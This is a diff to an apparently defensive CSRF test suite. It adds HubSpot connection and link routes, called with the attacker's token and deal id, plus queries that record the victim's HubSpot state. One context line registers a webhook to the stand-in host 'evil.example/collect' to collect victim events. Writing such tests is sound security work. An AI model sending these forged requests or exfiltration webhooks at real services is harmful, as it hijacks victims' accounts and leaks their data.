@@ -10,6 +10,7 @@ import { GOOD_PASSWORD, uniqueUsername } from '../../integration/support/http-cl
 import { tinyPng } from '../../integration/support/images.ts'
 import type { TestStack } from '../../integration/support/stack.ts'
 import { generationsCounted, table } from './actors.ts'
+import { CSRF_HUBSPOT } from './csrf-hubspot.ts'
 import { multipartBody } from './raw-http.ts'
 
 export interface FilePart {
@@ -149,6 +150,12 @@ export function routeCalls(login: { username: string }): Record<string, RouteCal
     'POST /api/notifications/webhooks': { fields: () => ({ url: 'https://evil.example/collect', events: ['proposal.agreed'] }) },
     'DELETE /api/notifications/webhooks/:id': { fields: () => ({}) },
     'POST /api/notifications/webhooks/:id/deliveries/:deliveryId/resend': { fields: () => ({}) },
+    // Issue 39: the victim's proposals' moves noted in the attacker's HubSpot account or on the
+    // attacker's deal, or the victim's connection and links removed.
+    'PUT /api/notifications/hubspot': { fields: () => ({ accessToken: CSRF_HUBSPOT.attacker.token }) },
+    'DELETE /api/notifications/hubspot': { fields: () => ({}) },
+    'PUT /api/notifications/hubspot/links/:proposalId': { fields: () => ({ dealId: CSRF_HUBSPOT.attacker.dealId }) },
+    'DELETE /api/notifications/hubspot/links/:proposalId': { fields: () => ({}) },
   }
 }
 
@@ -163,6 +170,7 @@ export function pathWithIds(routePath: string, ids: VictimIds): string {
     return routePath.replace(':id', ids.proposalId).replace(':number', '1').replace(':blockId', 'executiveSummary')
   if (routePath.startsWith('/api/billing/test-checkout/')) return routePath.replace(':id', ids.checkoutId)
   if (routePath.startsWith('/api/calculator-templates/')) return routePath.replace(':id', ids.templateId)
+  if (routePath.startsWith('/api/notifications/hubspot/links/')) return routePath.replace(':proposalId', ids.proposalId)
   if (routePath.startsWith('/api/notifications/webhooks/'))
     return routePath.replace(':id', ids.webhook?.endpointId ?? '').replace(':deliveryId', ids.webhook?.deliveryId ?? '')
   return routePath
@@ -282,6 +290,15 @@ export async function victimState(stack: TestStack, victim: { id: number }): Pro
     webhookDeliveries: await stack.databases.notification.query(
       `SELECT d.id, d.status FROM ${table(stack, 'notification', 'webhook_delivery')} d
         JOIN ${table(stack, 'notification', 'webhook_endpoint')} e ON e.id = d.endpoint_id WHERE e.user_id = $1 ORDER BY d.id`,
+      victim.id,
+    ),
+    // The victim's HubSpot connection (which account, since when, revoked or not; never the token) and its links.
+    hubspotConnection: await stack.databases.notification.query(
+      `SELECT portal_id, connected_at, revoked_at FROM ${table(stack, 'notification', 'hubspot_connection')} WHERE user_id = $1`,
+      victim.id,
+    ),
+    hubspotLinks: await stack.databases.notification.query(
+      `SELECT proposal_id, deal_id, linked_at FROM ${table(stack, 'notification', 'hubspot_link')} WHERE user_id = $1 ORDER BY proposal_id`,
       victim.id,
     ),
     // Which e-mails the victim gets (no row until their first change: every kind on).
